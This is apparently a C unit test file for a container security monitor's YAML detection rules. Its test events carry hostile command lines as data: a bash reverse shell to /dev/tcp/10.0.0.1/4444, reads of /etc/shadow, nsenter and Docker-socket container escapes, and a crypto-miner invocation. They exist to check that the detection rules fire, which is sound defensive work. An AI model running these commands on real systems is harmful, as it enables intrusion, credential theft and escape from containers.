/* test_rules.c - YAML rule files: loading, errors with file:line, overrides,
 * exceptions, priorities, output rendering and the default rules against
 * hand-built events (each default rule fires on its case and not on a benign one). */
#include "harness.h"
#include "watch/watch.h"

static int load(struct ward_wruleset *rs, const char *y, struct ward_error **err)
{
    int rc = ward_wrules_load(rs, y, strlen(y), "t.yaml", err);
    if (rc == 0)
        rc = ward_wrules_compile(rs, err);
    return rc;
}

/* An empty rule set rs (freed at scope exit) and an error slot err. */
#define NEW_RULESET(rs, err)                                                                       \
    ward_autoptr(ward_wruleset) rs = NULL;                                                         \
    struct ward_error *err = NULL;                                                                 \
    ward_wruleset_new(&rs)

/* The built-in rules, loaded as "default.yaml" (not compiled). */
static int load_defaults(struct ward_wruleset *rs, struct ward_error **err)
{
    return ward_wrules_load(rs, ward_watch_default_rules, ward_watch_default_rules_len,
                            "default.yaml", err);
}

static void ctr_exec(struct ward_wevent *ev, const char *name, const char *cmdline,
                     const char *args)
{
    *ev = (struct ward_wevent){.f = {[WF_EVT_TYPE] = "execve",
                                     [WF_EVT_SOURCE] = "proc-connector",
                                     [WF_PROC_NAME] = name,
                                     [WF_PROC_CMDLINE] = cmdline,
                                     [WF_PROC_ARGS] = args,
                                     [WF_PROC_EXEPATH] = "/bin/busybox",
                                     [WF_PROC_VPID] = "12",
                                     [WF_PROC_PNAME] = "runc",
                                     [WF_PROC_SETUID] = "false",
                                     [WF_USER_UID] = "0",
                                     [WF_USER_EUID] = "0",
                                     [WF_CONTAINER_ID] = "0123456789ab",
                                     [WF_CONTAINER_NAME] = "web",
                                     [WF_CONTAINER_IMAGE] = "alpine:3.10"}};
}

struct hits {
    char names[16][128];
    size_t n;
};

static void collect(const struct ward_wrule *r, const struct ward_wevent *ev, void *ud)
{
    (void)ev;
    struct hits *h = ud;
    if (h->n < 16)
        snprintf(h->names[h->n++], 128, "%s", r->name);
}

static bool fired(const struct ward_wruleset *rs, const struct ward_wevent *ev, const char *rule)
{
    struct hits h = {0};
    ward_wrules_eval(rs, ev, WARD_PRIO_DEBUG, collect, &h);
    for (size_t i = 0; i < h.n; i++)
        if (strcmp(h.names[i], rule) == 0)
            return true;
    return false;
}

static size_t nfired(const struct ward_wruleset *rs, const struct ward_wevent *ev)
{
    return ward_wrules_eval(rs, ev, WARD_PRIO_DEBUG, NULL, NULL);
}

TEST(watch_rules, defaults_load)
{
    NEW_RULESET(rs, err);
    CHECK_OK(load_defaults(rs, &err), err);
    CHECK_OK(ward_wrules_compile(rs, &err), err);
    CHECK(rs->nrules >= 8);
    for (size_t i = 0; i < rs->nrules; i++) {
        CHECK(rs->rules[i].desc != NULL);
        CHECK(rs->rules[i].ntags > 0);
    }
}

TEST(watch_rules, defaults_fire)
{
    NEW_RULESET(rs, err);
    CHECK_OK(load(rs, ward_watch_default_rules, &err), err);
    struct ward_wevent ev;

    ctr_exec(&ev, "sh", "sh", "");
    CHECK(fired(rs, &ev, "Shell started in a container"));
    CHECK_EQ_INT(nfired(rs, &ev), 1);
    ev.f[WF_PROC_VPID] = "1"; /* the entrypoint itself */
    CHECK_EQ_INT(nfired(rs, &ev), 0);
    ev.f[WF_PROC_VPID] = "12";
    ev.f[WF_PROC_PNAME] = "sh"; /* a script running a script */
    CHECK_EQ_INT(nfired(rs, &ev), 0);
    ctr_exec(&ev, "sh", "sh", "");
    ev.f[WF_CONTAINER_ID] = "host";
    CHECK_EQ_INT(nfired(rs, &ev), 0);

    ctr_exec(&ev, "apk", "apk add curl", "add curl");
    CHECK(fired(rs, &ev, "Package manager run in a container"));
    ctr_exec(&ev, "dpkg", "dpkg -i x.deb", "-i x.deb");
    CHECK(fired(rs, &ev, "Package manager run in a container"));
    ev.f[WF_PROC_PNAME] = "apt-get"; /* exception dpkg_under_apt */
    CHECK(!fired(rs, &ev, "Package manager run in a container"));

    ctr_exec(&ev, "xmrig", "/tmp/xmrig -o pool", "-o pool");
    CHECK(fired(rs, &ev, "Crypto miner started"));
    ctr_exec(&ev, "java", "java -jar x.jar -o stratum+tcp://p:3333", "-jar x.jar");
    CHECK(fired(rs, &ev, "Crypto miner started"));
    ev.f[WF_CONTAINER_ID] = "host"; /* miners count on the host too */
    CHECK(fired(rs, &ev, "Crypto miner started"));

    ctr_exec(&ev, "xmrig", "/tmp/xmrig", "");
    ev.f[WF_PROC_EXEPATH] = "/tmp/xmrig";
    CHECK(fired(rs, &ev, "Program run from a scratch directory"));
    ev.f[WF_PROC_EXEPATH] = "/tmpfoo/xmrig";
    CHECK(!fired(rs, &ev, "Program run from a scratch directory"));

    ctr_exec(&ev, "cat", "cat /etc/shadow", "/etc/shadow");
    CHECK(fired(rs, &ev, "Sensitive file named on a command line"));
    CHECK_EQ_INT(nfired(rs, &ev), 1);
    ctr_exec(&ev, "cat", "cat /etc/passwd", "/etc/passwd");
    CHECK_EQ_INT(nfired(rs, &ev), 0);

    memset(&ev, 0, sizeof(ev));
    ev.f[WF_EVT_TYPE] = "open";
    ev.f[WF_FD_NAME] = "/etc/shadow";
    ev.f[WF_CONTAINER_ID] = "0123456789ab";
    CHECK(fired(rs, &ev, "Sensitive file opened"));
    ev.f[WF_FD_NAME] = "/etc/hosts";
    CHECK_EQ_INT(nfired(rs, &ev), 0);
    ev.f[WF_EVT_TYPE] = "open_write";
    ev.f[WF_FD_NAME] = "/etc/hosts";
    ev.f[WF_PROC_NAME] = "sh";
    CHECK(fired(rs, &ev, "Write below a system directory"));
    ev.f[WF_FD_NAME] = "/etcetera/x";
    CHECK_EQ_INT(nfired(rs, &ev), 0);

    ctr_exec(&ev, "bash", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "-i");
    CHECK(fired(rs, &ev, "Reverse shell command line"));
    ctr_exec(&ev, "nsenter", "nsenter -t 1 -m sh", "-t 1 -m sh");
    CHECK(fired(rs, &ev, "Container escape tool run"));
    ctr_exec(&ev, "curl", "curl --unix-socket /var/run/docker.sock http://x/", "");
    CHECK(fired(rs, &ev, "Container escape tool run"));
    ctr_exec(&ev, "su", "su", "");
    ev.f[WF_PROC_SETUID] = "true";
    ev.f[WF_USER_UID] = "1000";
    CHECK(fired(rs, &ev, "Setuid or setgid program run"));

    /* benign: an ordinary program in a container, an ordinary program on the host */
    ctr_exec(&ev, "sleep", "sleep 3600", "3600");
    CHECK_EQ_INT(nfired(rs, &ev), 0);
    ev.f[WF_CONTAINER_ID] = "host";
    CHECK_EQ_INT(nfired(rs, &ev), 0);
}

TEST(watch_rules, override_disable_priority)
{
    NEW_RULESET(rs, err);
    CHECK_OK(load_defaults(rs, &err), err);
    static const char user[] = "- rule: Shell started in a container\n  enabled: false\n"
                               "- list: package_managers\n  items: [pip]\n  append: true\n"
                               "- rule: Mine\n  desc: d\n  condition: proc.name = sleep\n"
                               "  output: 'slept %proc.args.'\n  priority: debug\n";
    CHECK_OK(load(rs, user, &err), err);
    struct ward_wevent ev;
    ctr_exec(&ev, "sh", "sh", "");
    CHECK_EQ_INT(nfired(rs, &ev), 0);
    ctr_exec(&ev, "pip", "pip install x", "install x");
    CHECK(fired(rs, &ev, "Package manager run in a container"));
    ctr_exec(&ev, "sleep", "sleep 5", "5");
    CHECK(fired(rs, &ev, "Mine"));
    CHECK_EQ_INT(ward_wrules_eval(rs, &ev, WARD_PRIO_INFO, NULL, NULL), 0);

    long i = ward_wrules_find(rs, "Mine");
    CHECK(i >= 0);
    struct ward_buf b = WARD_BUF_INIT(1u << 16);
    ward_woutput_render(&b, rs->rules[i].output, &ev);
    CHECK_STR(b.ptr, "slept 5.");
    ward_buf_reset(&b);
    ward_woutput_render(&b, "%fd.name 100%% %proc.name", &ev);
    CHECK_STR(b.ptr, "<NA> 100% sleep");
    ward_buf_reset(&b);
    ward_walert_json(&b, &rs->rules[i], &ev);
    CHECK(b.ptr && strstr(b.ptr, "\"rule\":\"Mine\"") != NULL);
    CHECK(strstr(b.ptr, "\"priority\":\"debug\"") != NULL);
    CHECK(strstr(b.ptr, "\"proc.name\":\"sleep\"") != NULL);
    CHECK(b.ptr[b.len - 1] == '\n');
    ward_buf_dispose(&b);
}

TEST(watch_rules, exception_condition_form)
{
    NEW_RULESET(rs, err);
    static const char y[] = "- rule: R\n  desc: d\n  condition: proc.name in (a, b, c)\n"
                            "  output: x\n  exceptions:\n"
                            "    - name: not_b\n      condition: proc.name = b\n"
                            "    - name: c_as_root\n      fields: [proc.name, user.uid]\n"
                            "      values: [[c, '0']]\n";
    CHECK_OK(load(rs, y, &err), err);
    struct ward_wevent ev;
    ctr_exec(&ev, "a", "a", "");
    CHECK_EQ_INT(nfired(rs, &ev), 1);
    ev.f[WF_PROC_NAME] = "b";
    CHECK_EQ_INT(nfired(rs, &ev), 0);
    ev.f[WF_PROC_NAME] = "c";
    CHECK_EQ_INT(nfired(rs, &ev), 0);
    ev.f[WF_USER_UID] = "1000";
    CHECK_EQ_INT(nfired(rs, &ev), 1);
}

TEST(watch_rules, errors_name_line)
{
    static const struct {
        const char *y, *want;
    } bad[] = {
        {"- rule: R\n  condition: proc.name = a\n", "t.yaml:1: rule without output"},
        {"- rule: R\n  condition: proc.nme = a\n  output: x\n", "t.yaml:1: rule 'R'"},
        {"- rule: R\n  condition: proc.name = a\n  output: '%proc.nme'\n",
         "unknown field 'proc.nme'"},
        {"- rule: R\n  condition: a\n  output: x\n  priority: loud\n",
         "t.yaml:4: unknown priority"},
        {"\n\n- rule: R\n  condition: a\n  output: x\n  colour: red\n",
         "t.yaml:6: unknown key in rule"},
        {"- list: l\n  items: {a: b}\n", "t.yaml:2: expected a list"},
        {"- macro: m\n  condition: m\n", "refers to itself"},
        {"- macro: proc.name\n  condition: a\n", "reserved"},
        {"- rule: X\n  enabled: false\n", "undefined rule"},
        {"- list: l\n  items: [a]\n  append: true\n", "append to an undefined list"},
        {"a: b\n", "a list of list/macro/rule items"},
        {"- [x]\n", "each item must be a map"},
        {"- foo: bar\n", "not a list, macro or rule"},
        {"- rule: [\n", "YAML"},
        {"- rule: R\n  condition: proc.name = a\n  output: x\n  exceptions:\n"
         "    - name: e\n      fields: [proc.name, user.uid]\n      values: [[a]]\n",
         "one entry per field"},
        {"- rule: R\n  condition: proc.name = a\n  output: x\n  exceptions:\n"
         "    - name: e\n      fields: [proc.name]\n      comps: [like]\n      values: [a]\n",
         "unknown comparison"},
    };
    for (size_t i = 0; i < WARD_ARRAY_LEN(bad); i++) {
        NEW_RULESET(rs, err);
        int rc = load(rs, bad[i].y, &err);
        CHECK_MSG(rc < 0, "case %zu loaded", i);
        CHECK_MSG(strstr(err->msg, bad[i].want) != NULL, "case %zu: '%s' lacks '%s'", i, err->msg,
                  bad[i].want);
        ward_error_free(err);
    }
    /* an empty file is no rules, not an error */
    NEW_RULESET(rs, err);
    CHECK_OK(load(rs, "", &err), err);
    CHECK_EQ_INT(rs->nrules, 0);
}

TEST(watch_sinks, file_and_errors)
{
    char path[] = "/tmp/ward-test-sink.XXXXXX";
    int fd = mkstemp(path);
    CHECK(fd >= 0);
    close(fd);
    ward_autoptr(ward_wsinks) s = NULL;
    struct ward_error *err = NULL;
    ward_wsinks_new(&s);
    char spec[64];
    snprintf(spec, sizeof(spec), "file:%s", path);
    CHECK_OK(ward_wsinks_add(s, spec, &err), err);
    CHECK_EQ_INT(ward_wsinks_add(s, "webhook:ftp://x", &err), WARD_EFORMAT);
    ward_error_free(err);
    err = NULL;
    CHECK_EQ_INT(ward_wsinks_add(s, "file:/nonexistent-dir/x", &err), WARD_EIO);
    ward_error_free(err);
    ward_wsinks_emit(s, WARD_PRIO_ERROR, "{\"a\":1}\n", 8);
    ward_wsinks_emit(s, WARD_PRIO_ERROR, "{\"b\":2}\n", 8);
    CHECK_EQ_INT(ward_wsinks_sent(s), 2);
    CHECK_EQ_INT(ward_wsinks_dropped(s), 0);
    size_t n = 0;
    char *got = harness_slurp(path, &n);
    CHECK_STR(got, "{\"a\":1}\n{\"b\":2}\n");
    free(got);
    unlink(path);
}
